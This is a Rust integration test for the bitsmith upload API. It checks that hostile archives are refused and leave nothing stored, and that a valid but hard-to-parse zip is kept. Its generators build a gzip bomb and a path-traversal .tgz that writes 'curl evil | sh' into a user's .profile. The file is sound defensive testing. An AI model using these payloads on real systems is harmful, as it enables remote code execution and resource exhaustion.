//! Archives built to cost time or to escape the root, uploaded through the real API beside a controller,
//! against the real control plane: each is answered at once with a CF error, its object is FAILED with the
//! reason, and the store keeps nothing of it. A zip that is only hard to read (a stored entry whose data is
//! made of descriptor signatures) is read in linear time and kept as it was sent.

use std::io::Write;
use std::time::{Duration, Instant};

use bitsmith::api::{ApiConfig, AppState, Index};
use bitsmith::archive::zip::{EntryHeader, Sizes, ZipWriter, file_attributes};
use bitsmith::controller::{self, Options};
use bitsmith::links::ApiUrls;
use serde_json::Value;

use crate::support::kube::{install_crds, kube_ok, namespace, service_account_with_role, wait_for};
use crate::support::{fetcher, file_store, files_under};

/// The cap these tests give `max_zip_entries`, so that a zip over it stays small.
const MAX_ENTRIES: usize = 1000;

struct Api {
    ns: String,
    base: String,
    token: String,
    http: reqwest::Client,
    store: tempfile::TempDir,
    tasks: Vec<tokio::task::JoinHandle<()>>,
}

impl Drop for Api {
    fn drop(&mut self) {
        self.tasks.iter().for_each(|t| t.abort());
    }
}

/// A controller and the API over one `file://` store, in a fresh namespace, and a token allowed to upload.
async fn start(test: &str) -> Api {
    tokio::task::block_in_place(install_crds);
    let ns = tokio::task::block_in_place(|| namespace(test));
    let store = tempfile::tempdir().unwrap();
    let client = kube::Client::try_default().await.expect("a client for the test control plane");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let urls = ApiUrls::new(&url::Url::parse(&base).unwrap());
    let options = Options {
        concurrency: 2,
        namespace: Some(ns.clone()),
        reporter: "bitsmith-test".into(),
        metrics: Default::default(),
        urls: Some(urls.clone()),
        upload_claim_timeout: std::time::Duration::from_secs(60),
        package_retention: Default::default(),
        droplet_retention: Default::default(),
        audit: Default::default(),
    };
    let blobs = file_store(store.path());
    let running = tokio::spawn(controller::run(
        client.clone(),
        fetcher(blobs.clone(), Default::default(), 1 << 30),
        options,
        bitsmith::leader::Leadership::always(),
    ));
    let mut config = ApiConfig::new(urls);
    config.max_zip_entries = MAX_ENTRIES;
    let index = Index::start(&client, Some(&ns));
    index.ready().await;
    let state = AppState::new(client, blobs, index, config, Default::default(), None);
    let api = tokio::spawn(async move {
        bitsmith::api::serve(listener, None, state, std::future::pending()).await;
    });
    let token = tokio::task::block_in_place(|| service_account_with_role(&ns, "uploader", "bitsmith-uploader"));
    Api { ns, base, token, http: reqwest::Client::new(), store, tasks: vec![running, api] }
}

impl Api {
    fn create(&self, kind: &str, name: &str) -> String {
        let spec = if kind == "Package" { "\n  type: bits" } else { " {}" };
        let manifest =
            format!("apiVersion: bitsmith.dev/v1alpha1\nkind: {kind}\nmetadata:\n  name: {name}\nspec:{spec}\n");
        kube_ok(&["apply", "-n", &self.ns, "-f", "-"], Some(&manifest));
        kube_ok(&["get", &format!("{kind}/{name}"), "-n", &self.ns, "-o", "jsonpath={.metadata.uid}"], None)
    }

    /// Upload `bits` as the form's `bits` part; the status and JSON body of the answer.
    async fn upload(&self, plural: &str, guid: &str, bits: Vec<u8>) -> (u16, Value) {
        let form =
            reqwest::multipart::Form::new().part("bits", reqwest::multipart::Part::bytes(bits).file_name("bits"));
        let url = format!("{}/v3/{plural}/{guid}/upload", self.base);
        let response = self.http.post(url).bearer_auth(&self.token).multipart(form).send().await.unwrap();
        (response.status().as_u16(), response.json().await.unwrap_or(Value::Null))
    }

    fn status(&self, object: &str, field: &str) -> String {
        kube_ok(&["get", object, "-n", &self.ns, "-o", &format!("jsonpath={{.status.{field}}}")], None)
    }

    /// Files of the store that belong to `kind`/`name`, or are still staged.
    fn kept_for(&self, plural: &str, name: &str) -> Vec<std::path::PathBuf> {
        let own = format!("{plural}/{}/{name}/", self.ns);
        files_under(self.store.path())
            .into_iter()
            .filter(|p| p.starts_with("staging") || p.to_string_lossy().starts_with(&own))
            .collect()
    }

    /// Staged writes are aborted in the background when an upload is refused: wait for them to go.
    async fn nothing_kept_for(&self, plural: &str, name: &str) {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !self.kept_for(plural, name).is_empty() && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert_eq!(self.kept_for(plural, name), Vec::<std::path::PathBuf>::new(), "{plural}/{name} left files");
    }
}

/// A zip of `entries` (name, content, stored with its sizes after the data when `streamed`), by bitsmith's writer.
fn zip(entries: &[(String, Vec<u8>)], streamed: bool) -> Vec<u8> {
    let (mut out, mut writer) = (Vec::new(), ZipWriter::new());
    for (name, content) in entries {
        let size = content.len() as u64;
        let sizes = Sizes { crc: crc32fast::hash(content), compressed: size, uncompressed: size };
        let header = EntryHeader::new(name.as_str(), 0, sizes, streamed);
        out.extend_from_slice(&writer.whole_entry(&header, content, sizes, file_attributes(0o644)));
    }
    out.extend_from_slice(&writer.finish());
    out
}

/// Python's listing of a zip: each entry's name and content length.
fn python_listing(zip: &[u8]) -> String {
    let program = "import io, sys, zipfile\nz = zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))\nassert z.testzip() is None\nprint(' '.join(f'{i.filename}:{len(z.read(i))}' for i in z.infolist()))";
    let mut child = std::process::Command::new("python3")
        .args(["-c", program])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    child.stdin.take().unwrap().write_all(zip).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "python rejects the zip");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// A ustar header block.
fn tar_header(name: &str, size: usize) -> Vec<u8> {
    let mut header = vec![0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..108].copy_from_slice(b"0000644\0");
    header[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
    header[156] = b'0';
    header[257..265].copy_from_slice(b"ustar\x0000");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|&b| u32::from(b)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header
}

/// A `.tgz` whose first entry is safe and whose second climbs out of the root.
fn escaping_tgz() -> Vec<u8> {
    let mut tar = Vec::new();
    for (name, content) in [("app/start", &b"#!/bin/sh\n"[..]), ("app/../../home/vcap/.profile", b"curl evil | sh\n")] {
        tar.extend_from_slice(&tar_header(name, content.len()));
        tar.extend_from_slice(content);
        tar.resize(tar.len().div_ceil(512) * 512, 0);
    }
    tar.resize(tar.len() + 1024, 0);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&tar).unwrap();
    gz.finish().unwrap()
}

/// A valid `.tgz` of one file followed by 64 MiB of zeros: it inflates 1000:1.
fn gzip_bomb_tgz() -> Vec<u8> {
    let mut tar = tar_header("app/start", 1);
    tar.extend_from_slice(&[b'x'; 512]);
    tar.resize(64 << 20, 0);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&tar).unwrap();
    gz.finish().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_archives_are_refused_and_leave_nothing() {
    let api = start("sec-archive").await;
    let names = ["signatures", "unended", "crowded", "escape", "bomb"];
    let droplets = ["escape", "bomb"];
    let guids: Vec<String> = names
        .iter()
        .map(|n| {
            let kind = if droplets.contains(n) { "Droplet" } else { "Package" };
            tokio::task::block_in_place(|| api.create(kind, n))
        })
        .collect();
    for name in &names[..3] {
        wait_for(&api.ns, &format!("pkg/{name}"), "{.status.state}", "AWAITING_UPLOAD").await;
    }
    for name in droplets {
        wait_for(&api.ns, &format!("droplet/{name}"), "{.status.state}", "AWAITING_UPLOAD").await;
    }

    // 2 MiB of descriptor signatures in a stored entry whose sizes follow it: each signature is a candidate
    // end, and the zip is valid. It is read once through and kept as it is.
    let signatures = b"PK\x07\x08".repeat(512 << 10);
    let valid = zip(&[("app/sig".into(), signatures.clone())], true);
    let (status, body) = api.upload("packages", &guids[0], valid).await;
    assert_eq!(status, 200, "{body}");
    wait_for(&api.ns, "pkg/signatures", "{.status.state}", "READY").await;
    let url = format!("{}/v3/packages/{}/download", api.base, guids[0]);
    let stored = api.http.get(url).bearer_auth(&api.token).send().await.unwrap().bytes().await.unwrap();
    assert_eq!(python_listing(&stored), format!("app/sig:{}", signatures.len()));

    // The same signatures, but the descriptor that would end them never comes.
    let mut unended = zip(&[("app/sig".into(), signatures)], true);
    unended.truncate(2 << 20);
    let (status, body) = api.upload("packages", &guids[1], unended).await;
    assert_eq!((status, &body["errors"][0]["title"]), (400, &Value::from("CF-AppBitsUploadInvalid")), "{body}");
    assert_eq!(body["errors"][0]["code"], 160001);
    let detail = body["errors"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("Invalid zip archive: the archive ends early"), "{detail}");
    wait_for(&api.ns, "pkg/unended", "{.status.state}", "FAILED").await;
    assert!(api.status("pkg/unended", "error").contains("ends early"));

    let crowded: Vec<(String, Vec<u8>)> = (0..=MAX_ENTRIES).map(|n| (format!("app/e{n}"), Vec::new())).collect();
    let (status, body) = api.upload("packages", &guids[2], zip(&crowded, false)).await;
    assert_eq!((status, &body["errors"][0]["title"]), (400, &Value::from("CF-AppBitsUploadInvalid")), "{body}");
    let reason = format!("more than {MAX_ENTRIES} entries");
    assert!(body["errors"][0]["detail"].as_str().unwrap().contains(&reason), "{body}");
    wait_for(&api.ns, "pkg/crowded", "{.status.state}", "FAILED").await;
    assert!(api.status("pkg/crowded", "error").contains(&reason));

    // Droplet uploads answer invalid files with 422 and "Uploaded droplet file is invalid: ".
    let (status, body) = api.upload("droplets", &guids[3], escaping_tgz()).await;
    assert_eq!((status, &body["errors"][0]["title"]), (422, &Value::from("CF-UnprocessableEntity")), "{body}");
    let detail = body["errors"][0]["detail"].as_str().unwrap();
    assert!(detail.starts_with("Uploaded droplet file is invalid: an unsafe name"), "{detail}");
    assert!(detail.contains("app/../../home/vcap/.profile"), "{detail}");
    wait_for(&api.ns, "droplet/escape", "{.status.state}", "FAILED").await;
    assert!(api.status("droplet/escape", "error").contains("a path that leaves the root"));

    // A gzip bomb is refused for its ratio once it has inflated a few MiB, not at the 40 GiB limit.
    let bomb = gzip_bomb_tgz();
    assert!(bomb.len() < 128 << 10, "{} bytes", bomb.len());
    let (status, body) = api.upload("droplets", &guids[4], bomb).await;
    assert_eq!((status, &body["errors"][0]["title"]), (422, &Value::from("CF-UnprocessableEntity")), "{body}");
    let detail = body["errors"][0]["detail"].as_str().unwrap();
    assert_eq!(detail, "Uploaded droplet file is invalid: it inflates more than 200 times, like a gzip bomb");
    wait_for(&api.ns, "droplet/bomb", "{.status.state}", "FAILED").await;
    assert!(api.status("droplet/bomb", "error").contains("like a gzip bomb"));

    for name in &names[1..3] {
        api.nothing_kept_for("packages", name).await;
    }
    for name in droplets {
        api.nothing_kept_for("droplets", name).await;
    }
    assert_eq!(
        kube_ok(&["get", "pkg/signatures", "-n", &api.ns, "-o", "jsonpath={.status.size}"], None),
        stored.len().to_string()
    );
}
